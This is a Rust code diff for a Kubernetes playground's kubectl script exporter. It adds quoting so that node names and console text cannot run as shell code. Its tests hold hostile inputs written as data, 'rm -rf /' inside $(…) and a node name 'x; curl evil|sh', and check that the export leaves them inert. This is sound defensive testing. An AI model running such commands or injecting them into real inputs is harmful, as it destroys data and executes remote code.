@@ -69,8 +69,10 @@ fn for_apply(mut object: Value) -> Value {
     object
 }
 
-/// The session `script` as a bash script for a real cluster (`bash -n` accepts it).
-pub fn kubectl_script(script: &str) -> Result<String, ScriptError> {
+/// The session `script` as a bash script for a real cluster (`bash -n` accepts it). `console`
+/// replays it alongside (give it the file reader the session had, for `-f FILE`), to tell
+/// whether a rollout is under way when time passes.
+pub fn kubectl_script(script: &str, mut console: Console) -> Result<String, ScriptError> {
     let commands = parse_script(script)?;
     let mut out = String::from(
         "#!/usr/bin/env bash\n\
@@ -79,14 +81,12 @@ pub fn kubectl_script(script: &str) -> Result<String, ScriptError> {
          # Lines the playground simulated are comments saying what to do by hand.\n\
          set -u\n",
     );
-    // Replayed alongside, to tell whether a rollout is under way when time passes.
-    let mut console = Console::new();
     for command in &commands {
         let words = split_words(&command.first_line).unwrap_or_default();
         let words: Vec<&str> = words.iter().map(String::as_str).collect();
         match words.as_slice() {
             ["kubectl", ..] => {
-                out.push_str(&shell_line(&command.first_line));
+                out.push_str(&shell_line(&words));
                 out.push('\n');
                 for line in &command.heredoc_lines {
                     out.push_str(line);
@@ -130,8 +130,8 @@ pub fn kubectl_script(script: &str) -> Result<String, ScriptError> {
 /// A console line as bash must read it to run the same command: every word quoted where bash
 /// would expand or split it (the console expands nothing: `$(…)` there is text), and a
 /// heredoc's delimiter quoted, so that bash leaves its body as it is.
-fn shell_line(line: &str) -> String {
-    let Ok(words) = split_words(line) else { return format!("# (cannot be read as words) {line}") };
+fn shell_line(words: &[&str]) -> String {
+    let words: Vec<String> = words.iter().map(|w| w.to_string()).collect();
     let heredoc = heredoc_delimiter(&words);
     let mut out: Vec<String> = Vec::new();
     let mut i = 0;
@@ -170,7 +170,9 @@ fn rolling_daemonsets(sim: &Simulation) -> Vec<(String, String)> {
 /// What a `sim` command (its words after `sim`) means on a real cluster: a kubectl command
 /// when one does it, else what to do by hand.
 fn by_hand(words: &[&str]) -> String {
-    let names = |from: usize| words.get(from..).unwrap_or_default().join(" ");
+    // Quoted, as they would be in a command: a name is text, whatever it holds.
+    let names =
+        |from: usize| words.get(from..).unwrap_or_default().iter().map(|w| quote(w)).collect::<Vec<_>>().join(" ");
     match words {
         ["node", "add", ..] => format!(
             "join the node(s) {} (a node registers itself when its kubelet starts), then label and taint them as the flags say",
@@ -247,7 +249,7 @@ sim node remove n1
 
     #[test]
     fn the_kubectl_script_keeps_kubectl_lines_and_says_what_to_do_by_hand() {
-        let script = kubectl_script(SCRIPT).unwrap();
+        let script = kubectl_script(SCRIPT, Console::new()).unwrap();
         assert!(script.starts_with("#!/usr/bin/env bash\n"));
         assert!(script.contains("# sim node add n1 n2 --label ssd=true\n#   by hand: join the node(s) n1 n2"));
         // The delimiter is quoted: bash leaves the manifest as it is.
@@ -270,10 +272,15 @@ sim node remove n1
     #[test]
     fn bash_reads_the_script() {
         // `bash -n` parses without running; skipped where there is no bash.
-        let script = kubectl_script(&format!(
-            "{SCRIPT}sim image break \"quo'te\"\nweird $(rm -rf /) `x`\nkubectl get pods -l 'a in (b, c)' $(x) \"it's\"\n"
-        ))
+        let script = kubectl_script(
+            &format!(
+                "{SCRIPT}sim image break \"quo'te\"\nweird $(rm -rf /) `x`\nkubectl get pods -l 'a in (b, c)' $(x) \"it's\"\nsim node remove 'x; curl evil|sh'\n"
+            ),
+            Console::new(),
+        )
         .unwrap();
+        // A name that is shell text stays one quoted word.
+        assert!(script.contains("\nkubectl delete node 'x; curl evil|sh'\n"), "{script}");
         assert!(script.contains("kubectl get pods -l 'a in (b, c)' '$(x)' 'it'\\''s'\n"), "{script}");
         let Ok(mut child) = std::process::Command::new("bash")
             .arg("-n")
